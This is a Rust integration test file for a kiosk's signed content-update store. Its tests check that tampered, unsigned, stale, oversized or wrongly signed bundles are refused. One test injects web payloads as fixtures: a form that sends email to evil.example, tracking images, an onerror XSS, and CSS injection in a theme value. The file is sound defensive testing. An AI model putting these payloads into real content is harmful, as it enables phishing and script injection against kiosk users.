//! Content updates against real files: bundles built from the demo content,
//! signed with real minisign keys, installed into a store on disk. One test
//! per attack, each refused with its reason while the old content stays.

use std::path::{Path, PathBuf};

use kiosk_content::Bundle;
use kiosk_content::build::{BuildOptions, build_bundle};
use kiosk_content::source::NoProgress;
use kiosk_updates::accept::{Policy, Rejection};
use kiosk_updates::sign::{generate_keypair, parse_public_key, sign, signature_path, trusted_comment};
use kiosk_updates::store::{BundleStore, Outcome, StoreError};

#[path = "updates/hostile_server.rs"]
mod hostile_server;

struct Key {
    public: String,
    secret: String,
}

fn key() -> Key {
    let (public, secret) = generate_keypair(None).unwrap();
    Key { public, secret }
}

fn content() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../content")
}

/// Builds the demo content as `version` on `channel` into `dir/name`.
fn build(dir: &Path, name: &str, version: u64, channel: &str) -> PathBuf {
    let out = dir.join(name);
    let options = BuildOptions { bundle_version: Some(version), channel: channel.into(), ..BuildOptions::default() };
    build_bundle(&content(), &out, &options, &mut NoProgress).unwrap();
    out
}

fn sign_as(key: &Key, file: &Path, version: u64, channel: &str) {
    let sig = sign(&key.secret, None, std::fs::File::open(file).unwrap(), &trusted_comment(version, channel)).unwrap();
    std::fs::write(signature_path(file), sig).unwrap();
}

fn policy(key: &Key) -> Policy {
    Policy { trusted: vec![parse_public_key(&key.public).unwrap()], channel: "stable".into(), max_bytes: 64 << 20 }
}

/// A store with version 10 installed and current.
fn installed_v10(dir: &Path, key: &Key) -> BundleStore {
    let b = build(dir, "good10.kbundle", 10, "stable");
    sign_as(key, &b, 10, "stable");
    let store = BundleStore::open(&dir.join("data")).unwrap();
    match store.install(&b, &policy(key), 0, "test").unwrap() {
        Outcome::Installed(i) => assert_eq!(i.version, 10),
        Outcome::Rejected(r) => panic!("a good bundle must install: {r}"),
    }
    store
}

/// Installs `candidate`, expects the refusal `code`, and checks the old bundle still serves.
fn assert_refused(store: &BundleStore, candidate: &Path, policy: &Policy, code: &str) -> Rejection {
    let before = store.state().unwrap();
    let r = match store.install(candidate, policy, 0, "test").unwrap() {
        Outcome::Rejected(r) => r,
        Outcome::Installed(i) => panic!("{code}: the bundle must be refused, but version {} was installed", i.version),
    };
    assert_eq!(r.code(), code, "refused for the right reason: {r}");
    assert_eq!(store.state().unwrap(), before, "{code}: a refused bundle changes nothing");
    let current = store.current_path().unwrap().unwrap();
    assert_eq!(Bundle::open(&current).unwrap().meta().bundle_version, 10, "{code}: the old content keeps running");
    let logged = store.rejections(1);
    assert_eq!(logged.last().map(|l| l.code.as_str()), Some(code), "{code}: the refusal is logged for staff");
    r
}

#[test]
fn a_good_bundle_installs_and_the_previous_one_is_kept_for_rollback() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "good11.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    let mut heard = Vec::new();
    let Outcome::Installed(i) = store
        .install_with_progress(&b, &policy(&k), 0, "inbox /media/usb", &mut |done, total| heard.push((done, total)))
        .unwrap()
    else {
        panic!()
    };
    assert_eq!((i.version, i.source.as_str(), i.sha256.len()), (11, "inbox /media/usb", 64));
    assert_eq!(heard.last(), Some(&(i.size, i.size)), "the copy's progress ends at the bundle's size");
    assert!(heard.windows(2).all(|w| w[0].0 < w[1].0), "and only goes forward: {heard:?}");
    let state = store.state().unwrap();
    assert_eq!(state.previous.as_ref().map(|p| p.version), Some(10));
    assert_eq!(state.highest_version, 11);

    let back = store.rollback().unwrap().expect("v10 was installed before v11");
    assert_eq!(back.version, 10);
    let current = store.current_path().unwrap().unwrap();
    assert_eq!(Bundle::open(&current).unwrap().meta().bundle_version, 10, "rolled back to the previous content");
    assert_eq!(store.state().unwrap().highest_version, 11, "rollback does not lower the bar for new bundles");
    assert_refused(&store, &b, &policy(&k), "not_newer");

    // From the first installed bundle, a rollback goes back to the kiosk's own (config) bundle.
    assert!(store.rollback().unwrap().is_none(), "no installed bundle is current any more");
    assert_eq!(store.current_path().unwrap(), None);
    assert!(matches!(store.rollback(), Err(StoreError::NoPrevious)), "and there is nothing further back");
    assert_eq!(store.state().unwrap().highest_version, 11);
}

#[test]
fn a_bad_signature_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    let other = build(dir.path(), "other.kbundle", 12, "stable");
    sign_as(&k, &other, 11, "stable");
    std::fs::copy(signature_path(&other), signature_path(&b)).unwrap(); // a real signature, of another file
    assert_refused(&store, &b, &policy(&k), "bad_signature");
    std::fs::write(signature_path(&b), "untrusted comment: x\nnot base64 at all\n").unwrap();
    assert_refused(&store, &b, &policy(&k), "malformed_signature");
    std::fs::remove_file(signature_path(&b)).unwrap();
    assert_refused(&store, &b, &policy(&k), "unsigned");
}

#[test]
fn a_byte_changed_after_signing_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    let mut bytes = std::fs::read(&b).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    std::fs::write(&b, bytes).unwrap();
    assert_refused(&store, &b, &policy(&k), "bad_signature");
}

#[test]
fn a_truncated_file_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    let len = std::fs::metadata(&b).unwrap().len();
    std::fs::OpenOptions::new().write(true).open(&b).unwrap().set_len(len / 3).unwrap();
    assert_refused(&store, &b, &policy(&k), "bad_signature");
}

#[test]
fn an_untrusted_key_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let (k, stranger) = (key(), key());
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    sign_as(&stranger, &b, 11, "stable");
    let r = assert_refused(&store, &b, &policy(&k), "untrusted_key");
    assert!(r.to_string().contains("does not trust"), "{r}");
}

#[test]
fn an_older_or_equal_version_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    for version in [9, 10] {
        let b = build(dir.path(), &format!("v{version}.kbundle"), version, "stable");
        sign_as(&k, &b, version, "stable");
        let r = assert_refused(&store, &b, &policy(&k), "not_newer");
        assert_eq!(r, Rejection::NotNewer { version, installed: 10 });
    }
    // The floor (the config's bundle) counts too when nothing was installed yet.
    let fresh = BundleStore::open(&dir.path().join("fresh")).unwrap();
    let b = build(dir.path(), "v5.kbundle", 5, "stable");
    sign_as(&k, &b, 5, "stable");
    let Outcome::Rejected(r) = fresh.install(&b, &policy(&k), 7, "test").unwrap() else { panic!() };
    assert_eq!(r.code(), "not_newer");
}

#[test]
fn an_unknown_schema_version_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    rusqlite::Connection::open(&b).unwrap().pragma_update(None, "user_version", 99).unwrap();
    sign_as(&k, &b, 11, "stable");
    let r = assert_refused(&store, &b, &policy(&k), "unsupported_schema");
    assert!(r.to_string().contains("99"), "{r}");
}

#[test]
fn a_file_that_is_not_sqlite_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = dir.path().join("junk.kbundle");
    std::fs::write(&b, vec![0x42u8; 100_000]).unwrap();
    sign_as(&k, &b, 11, "stable");
    assert_refused(&store, &b, &policy(&k), "not_sqlite");
}

#[test]
fn a_bundle_over_the_size_cap_is_refused_before_it_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    let small = Policy { max_bytes: 1024, ..policy(&k) };
    let r = assert_refused(&store, &b, &small, "too_large");
    assert!(r.to_string().contains("1024"), "{r}");
    let staged = std::fs::read_dir(store.dir())
        .unwrap()
        .flatten()
        .any(|e| e.file_name().to_string_lossy().starts_with(".incoming"));
    assert!(!staged, "nothing was copied");
}

#[test]
fn another_channels_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "pilot");
    sign_as(&k, &b, 11, "pilot");
    let r = assert_refused(&store, &b, &policy(&k), "wrong_channel");
    assert!(r.to_string().contains("pilot"), "{r}");
}

#[test]
fn a_signature_that_claims_another_version_than_the_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let b = build(dir.path(), "b.kbundle", 11, "stable");
    sign_as(&k, &b, 99, "stable");
    assert_refused(&store, &b, &policy(&k), "mismatch");
}

/// Lays out what `kioskctl bundle publish` writes: bundle, its signature, signed manifest.
fn publish(dir: &Path, bundle: &Path, key: &Key, version: u64) {
    publish_staged(dir, bundle, key, version, 100);
}

/// [`publish`] with `--rollout-percent`.
fn publish_staged(dir: &Path, bundle: &Path, key: &Key, version: u64, rollout_percent: u8) {
    use kiosk_updates::remote::{Manifest, manifest_comment};
    let name = format!("embassy-{version}.kbundle");
    std::fs::copy(bundle, dir.join(&name)).unwrap();
    std::fs::copy(signature_path(bundle), signature_path(&dir.join(&name))).unwrap();
    let manifest = Manifest {
        version,
        channel: "stable".into(),
        size: std::fs::metadata(bundle).unwrap().len(),
        sha256: kiosk_updates::accept::sha256_file(bundle).unwrap(),
        bundle: name,
        rollout_percent,
    };
    let body = serde_json::to_vec(&manifest).unwrap();
    let sig = sign(&key.secret, None, &body[..], &manifest_comment(version, "stable")).unwrap();
    std::fs::write(dir.join("manifest.json.minisig"), sig).unwrap();
    std::fs::write(dir.join("manifest.json"), body).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_https_update_is_polled_resumed_after_a_cut_and_installed() {
    use kiosk_testsupport::files::FileServer;
    use kiosk_updates::remote::{Poll, Remote};
    use std::sync::atomic::Ordering::Relaxed;
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let www = dir.path().join("www");
    std::fs::create_dir_all(&www).unwrap();
    let b = build(dir.path(), "b11.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    publish(&www, &b, &k, 11);
    let size = std::fs::metadata(&b).unwrap().len();
    let server = FileServer::start(www.clone(), Some(size / 3)).await;
    let mut remote =
        Remote::new(&server.url("manifest.json"), &dir.path().join("downloads"), kiosk_http::Shared::new()).unwrap();
    let policy = policy(&k);

    // The first download is cut off a third of the way: nothing is installed, the part is kept.
    let err = remote.poll(&policy, 10).await.unwrap_err();
    assert!(err.to_string().contains("cut off"), "{err}");
    // The next poll resumes where it stopped (a Range request), then installs through the usual checks.
    let Poll::Downloaded(path) = remote.poll(&policy, 10).await.unwrap() else { panic!("downloaded") };
    assert_eq!(server.served.partial.load(Relaxed), 1, "the download resumed with a Range request");
    assert!(server.served.large_bytes.load(Relaxed) < size + size / 2, "the resumed download did not start over");
    let Outcome::Installed(i) = store.install(&path, &policy, 0, "https").unwrap() else { panic!("installed") };
    assert_eq!(i.version, 11);
    // Nothing new: the manifest comes back 304.
    assert_eq!(remote.poll(&policy, 11).await.unwrap(), Poll::Unchanged);
    assert_eq!(server.served.not_modified.load(Relaxed), 1, "an idle poll is a conditional request");

    // A manifest signed by a stranger is refused before anything is downloaded.
    let stranger = key();
    let c = build(dir.path(), "c12.kbundle", 12, "stable");
    sign_as(&stranger, &c, 12, "stable");
    publish(&www, &c, &stranger, 12);
    let before = server.served.large_bytes.load(Relaxed);
    let err = remote.poll(&policy, 11).await.unwrap_err();
    assert!(err.to_string().contains("does not trust"), "{err}");
    assert_eq!(server.served.large_bytes.load(Relaxed), before, "no download for an untrusted manifest");
    // Over the size cap: refused from the manifest alone.
    sign_as(&k, &c, 12, "stable");
    publish(&www, &c, &k, 12);
    let err = remote.poll(&Policy { max_bytes: 1024, ..policy.clone() }, 11).await.unwrap_err();
    assert!(err.to_string().contains("limit"), "{err}");
    assert_eq!(server.served.large_bytes.load(Relaxed), before, "no download over the cap");
}

/// Names of the files in the store that are install work in progress.
fn staging_files(store: &BundleStore) -> Vec<String> {
    std::fs::read_dir(store.dir())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".incoming"))
        .collect()
}

/// Issue #15 item 10: a stranger's bundle is refused from its `.minisig`
/// alone — its bytes are never opened, let alone copied into the store.
#[test]
fn an_untrusted_signer_is_refused_before_the_bundle_is_opened() {
    let dir = tempfile::tempdir().unwrap();
    let (k, stranger) = (key(), key());
    let store = installed_v10(dir.path(), &k);
    let stranger_id = {
        let sig = sign(&stranger.secret, None, &b"anything"[..], &trusted_comment(11, "stable")).unwrap();
        let sig = minisign::SignatureBox::from_string(&sig).unwrap();
        kiosk_updates::sign::key_id(sig.keynum())
    };
    let inbox = dir.path().join("inbox");
    std::fs::create_dir_all(&inbox).unwrap();

    // A "huge" bundle (sparse: 256 MiB that cost no disk), signed by the stranger.
    let huge = inbox.join("huge.kbundle");
    std::fs::File::create(&huge).unwrap().set_len(256 << 20).unwrap();
    let sig = sign(&stranger.secret, None, &b"not even this file"[..], &trusted_comment(11, "stable")).unwrap();
    std::fs::write(signature_path(&huge), sig).unwrap();
    let roomy = Policy { max_bytes: 1 << 30, ..policy(&k) };
    let mut copied = 0u64;
    let before = store.state().unwrap();
    let Outcome::Rejected(r) =
        store.install_with_progress(&huge, &roomy, 0, "inbox", &mut |done, _| copied = copied.max(done)).unwrap()
    else {
        panic!("a stranger's bundle must be refused")
    };
    assert_eq!(r.code(), "untrusted_key", "{r}");
    assert!(r.to_string().contains(&stranger_id), "the refusal names the untrusted key {stranger_id}: {r}");
    assert_eq!(copied, 0, "not a byte of a stranger's bundle is copied into the store");
    assert!(staging_files(&store).is_empty(), "no staging file: {:?}", staging_files(&store));
    assert_eq!(store.state().unwrap(), before);

    // Proof that the bundle itself is never even opened: a FIFO, whose opening
    // for reading would wake a writer waiting on the other end.
    let fifo = inbox.join("fifo.kbundle");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success(), "mkfifo");
    let sig = sign(&stranger.secret, None, &b"x"[..], &trusted_comment(11, "stable")).unwrap();
    std::fs::write(signature_path(&fifo), sig).unwrap();
    let opened = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let (fifo, opened) = (fifo.clone(), opened.clone());
        // Blocks in open() until someone opens the FIFO for reading; then says so
        // and closes it, so a reader that opened it sees an empty file and goes on.
        std::thread::spawn(move || {
            let f = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
            opened.store(true, std::sync::atomic::Ordering::SeqCst);
            drop(f);
        })
    };
    let Outcome::Rejected(r) = store.install(&fifo, &roomy, 0, "inbox").unwrap() else {
        panic!("a stranger's bundle must be refused")
    };
    // Whoever opened the FIFO for reading read from it until the writer closed it,
    // and the writer sets the flag before closing: so the flag is already set if it was opened.
    assert!(!opened.load(std::sync::atomic::Ordering::SeqCst), "the untrusted bundle must not be opened at all");
    assert_eq!(r.code(), "untrusted_key", "{r}");
    assert!(r.to_string().contains(&stranger_id), "{r}");
    assert!(staging_files(&store).is_empty(), "no staging file: {:?}", staging_files(&store));
    // Release the writer (opening for reading ourselves) so the thread ends.
    drop(std::fs::File::open(&fifo).unwrap());
    writer.join().unwrap();

    // Nor can a `.minisig` that is a FIFO (which would block whoever opens it) hold the installer.
    let odd = inbox.join("odd.kbundle");
    std::fs::write(&odd, b"whatever").unwrap();
    let made = std::process::Command::new("mkfifo").arg(signature_path(&odd)).status().unwrap();
    assert!(made.success(), "mkfifo");
    let Outcome::Rejected(r) = store.install(&odd, &roomy, 0, "inbox").unwrap() else { panic!("refused") };
    assert_eq!(r.code(), "malformed_signature", "{r}");
}

/// Issue #15 item 11: a bundle made or edited by another tool and then signed
/// by a trusted key cannot make the kiosk render what its own build never
/// would: HTML its sanitiser changes, or a theme value that is not a colour.
#[test]
fn a_signed_bundle_with_html_or_theme_the_kiosk_would_not_make_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let k = key();
    let store = installed_v10(dir.path(), &k);
    let section: String = {
        let b = build(dir.path(), "probe.kbundle", 11, "stable");
        let conn = rusqlite::Connection::open(&b).unwrap();
        conn.query_row("SELECT section_id FROM section_texts ORDER BY section_id LIMIT 1", [], |r| r.get(0)).unwrap()
    };
    let edits = [
        ("<style>", format!("UPDATE section_texts SET html = html || '<style>body{{display:none}}</style>' WHERE section_id = '{section}'")),
        ("<form>", format!("UPDATE section_texts SET html = '<form action=\"https://evil.example/\"><input name=\"email\"></form>' || html WHERE section_id = '{section}'")),
        ("<img>", format!("UPDATE section_texts SET html = html || '<img src=\"https://evil.example/t.png\">' WHERE section_id = '{section}'")),
        (
            "an event's <img>",
            "UPDATE event_texts SET description_html = '<img src=x onerror=\"alert(1)\">' WHERE event_id = (SELECT min(event_id) FROM event_texts)".to_string(),
        ),
        ("theme CSS", "UPDATE settings SET value = json_set(value, '$.primary', 'red;background:url(https://evil.example/x)') WHERE key = 'theme'".to_string()),
    ];
    for (i, (what, sql)) in edits.iter().enumerate() {
        let b = build(dir.path(), &format!("edited{i}.kbundle"), 11, "stable");
        let conn = rusqlite::Connection::open(&b).unwrap();
        assert!(conn.execute(sql, []).unwrap() >= 1, "{what}: the edit changed a row");
        drop(conn);
        sign_as(&k, &b, 11, "stable"); // signed after the edit: the signature is good
        let r = assert_refused(&store, &b, &policy(&k), "unsafe_content");
        let says = r.to_string();
        if what.starts_with('<') {
            assert!(says.contains(&format!("section `{section}`")), "{what}: the refusal names the section: {says}");
        } else if what.starts_with("theme") {
            assert!(says.contains("theme.primary"), "{what}: the refusal names the theme value: {says}");
        } else {
            assert!(says.contains("event `"), "{what}: the refusal names the event: {says}");
        }
    }
    // The same bundle as the kiosk's build makes it is accepted.
    let b = build(dir.path(), "clean.kbundle", 11, "stable");
    sign_as(&k, &b, 11, "stable");
    let Outcome::Installed(i) = store.install(&b, &policy(&k), 0, "test").unwrap() else {
        panic!("a bundle as kioskctl builds it must be accepted")
    };
    assert_eq!(i.version, 11);
}

#[path = "updates/hardening.rs"]
mod hardening;
#[path = "updates/rollout.rs"]
mod rollout;
#[path = "updates/signatures.rs"]
mod signatures;
